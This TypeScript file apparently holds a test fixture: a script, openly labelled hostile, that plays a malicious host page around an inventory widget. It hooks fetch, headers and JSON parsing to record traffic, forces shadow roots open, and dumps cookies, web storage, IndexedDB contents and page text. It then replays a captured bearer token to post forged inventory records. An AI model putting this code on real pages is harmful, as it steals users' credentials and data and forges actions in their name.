/**
 * A script that the host's page loads first. It replaces functions that the widget calls, records all values that pass
 * through them, and searches everything that a page can read. It is plain JavaScript, because a page runs it.
 */
export const HOSTILE_SCRIPT = String.raw`
globalThis.hostile = (() => {
  const intercepted = [];
  const roots = [];
  const note = (...what) => intercepted.push(what.join(' '));
  const own = { fetch: fetch.bind(globalThis), attachShadow: Element.prototype.attachShadow, parse: JSON.parse, setHeader: Headers.prototype.set };

  globalThis.fetch = async (input, init) => {
    const request = new Request(input, init);
    note(request.method, request.url, JSON.stringify([...request.headers]), await request.clone().text());
    const response = await own.fetch(request);
    note(response.status, JSON.stringify([...response.headers]), await response.clone().text());
    return response;
  };
  Headers.prototype.set = function (name, value) {
    note(name, value);
    return own.setHeader.call(this, name, value);
  };
  JSON.parse = (text, reviver) => {
    note(text);
    return own.parse(text, reviver);
  };
  Element.prototype.attachShadow = function (options) {
    const root = own.attachShadow.call(this, { ...options, mode: 'open' });
    roots.push(root);
    return root;
  };
  /** Every string that is reachable by properties, including symbols and properties that are not enumerable. */
  function walk(start) {
    const texts = [];
    const seen = new Set([globalThis.hostile, intercepted]);
    const open = [start];
    while (open.length > 0 && seen.size < 200000) {
      const value = open.pop();
      if (typeof value === 'string') texts.push(value);
      if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value)) continue;
      seen.add(value);
      if (typeof value === 'function') texts.push(String(value.name));
      if (value instanceof Map || value instanceof Set) open.push(...[...value].flat());
      for (const key of Reflect.ownKeys(value)) {
        if (typeof key === 'string') texts.push(key);
        try {
          open.push(value[key]);
        } catch {
          texts.push('unreadable');
        }
      }
      open.push(Object.getPrototypeOf(value));
    }
    return texts;
  }

  async function rows() {
    const found = [];
    for (const { name } of await indexedDB.databases()) {
      found.push(name);
      const database = await new Promise((resolve, reject) => {
        const request = indexedDB.open(name);
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
      });
      for (const store of database.objectStoreNames) {
        const all = database.transaction(store).objectStore(store).getAll();
        await new Promise((resolve, reject) => Object.assign(all, { onsuccess: resolve, onerror: reject }));
        found.push(JSON.stringify(all.result));
      }
      database.close();
    }
    return found;
  }

  return {
    async dump() {
      const elements = [document, ...roots].flatMap((root) => [...root.querySelectorAll('*')]);
      const stored = [
        document.documentElement.outerHTML,
        ...roots.map((root) => root.innerHTML),
        ...elements.flatMap((element) => [...element.attributes].map(({ name, value }) => name + '=' + value)),
        ...elements.filter(({ localName }) => localName.includes('-')).flatMap(walk),
        ...walk(globalThis),
        JSON.stringify({ ...localStorage }),
        JSON.stringify({ ...sessionStorage }),
        document.cookie,
        JSON.stringify(history.state),
        location.href,
        JSON.stringify(performance.getEntries()),
        ...(await rows()),
        ...(await caches.keys()),
      ];
      return { intercepted: intercepted.join('\n'), stored: stored.join('\n') };
    },
    async write(proxy, token, edits) {
      const inventory = Array.from({ length: edits }, () => ({
        id: 'stolen-' + crypto.randomUUID(),
        available: false,
        updated_at: new Date().toISOString(),
      }));
      const headers = {
        Authorization: 'Bearer ' + token,
        'Content-Type': 'application/json',
        'X-Requested-With': 'inventory-widget',
        'Idempotency-Key': crypto.randomUUID(),
      };
      const body = JSON.stringify({ inventory });
      return (await own.fetch(proxy + '/v1/inventory', { method: 'POST', headers, body })).status;
    },
  };
})();
`;
